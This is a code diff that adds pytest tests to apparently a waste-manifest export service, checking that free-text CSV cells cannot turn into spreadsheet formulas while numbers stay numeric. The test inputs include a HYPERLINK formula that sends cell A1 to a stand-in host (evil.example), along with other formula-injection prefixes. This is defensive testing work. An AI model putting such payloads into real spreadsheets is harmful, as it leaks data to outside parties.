@@ -142,3 +142,21 @@ def test_export_pages_do_not_hold_the_set(world, data, engine, monkeypatch):
     assert len(rows) == 9 and max(sizes) == 2 and len(sizes) == 5
     with session_scope(engine) as session:
         assert len(session.exec(select(Manifest)).all()) == 9
+
+
+@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)",
+                                    "\tcmd", "\rcmd"])
+def test_csv_text_cells_cannot_become_formulas(world, reason):
+    """A party's free text reaches the regulator's spreadsheet inert; a number stays a number."""
+    no = world.file()
+    assert world.post(f"/v1/manifests/{no}/dispatch", {}, "generator").status_code == 200
+    assert world.post(f"/v1/manifests/{no}/reject", {"reason": reason}, "receiver").status_code == 200
+    row = next(r for r in read_csv(fetch(world, "/v1/exports/manifests.csv")) if r["manifest_no"] == no)
+    assert row["reject_reason"] == "'" + reason
+    assert row["declared_kg"] == "30000"
+
+
+def test_spreadsheet_safe_leaves_numbers_and_plain_text_alone():
+    assert exports.spreadsheet_safe(-5) == -5 and exports.spreadsheet_safe(-0.5) == -0.5
+    assert exports.spreadsheet_safe("wrong waste") == "wrong waste"
+    assert exports.spreadsheet_safe("=1") == "'=1"
